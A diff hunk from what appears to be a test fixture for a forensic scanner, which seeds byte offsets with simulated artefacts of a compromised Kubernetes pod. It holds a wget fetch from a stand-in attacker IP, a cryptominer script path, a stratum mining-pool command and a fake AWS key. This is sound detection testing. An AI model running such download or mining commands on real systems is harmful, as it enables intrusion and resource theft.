@@ -99,7 +99,7 @@ def main():
         1: [(0x00410, b"AWS_ACCESS_KEY_ID=AKIA5DEVINTERN7EXMPL\x00AWS_DEFAULT_REGION=us-west-2\x00"),
             (0x08000, b"io.kubernetes.pod.name=sysdiag\x00io.kubernetes.pod.namespace=default\x00"),
             (0x10020, b"#!/bin/sh\nwhile true; do sleep 60; done\n\x00/tmp/.x/miner.sh\x00"),
-            (0x1FFF0, b"wget -qO- http://203.0.113.50/drop\x00"),  # crosses the scanner's 128 KiB chunk boundary
+            (0x1FFF0, b"wget -qO- http://203.0.113.50/drop\x00"),
             (0x2A000, b"GET /drop HTTP/1.1\r\nHost: 203.0.113.50\r\nUser-Agent: Wget\r\n\r\n"),
             (0x33000, b"kubectl/v1.31.2 (linux/amd64) from 198.51.100.23\x00")],
         2: [(0x0100, b"--pool stratum+tcp://203.0.113.50:3333 --user AKIA5DEVINTERN7EXMPL\x00"),
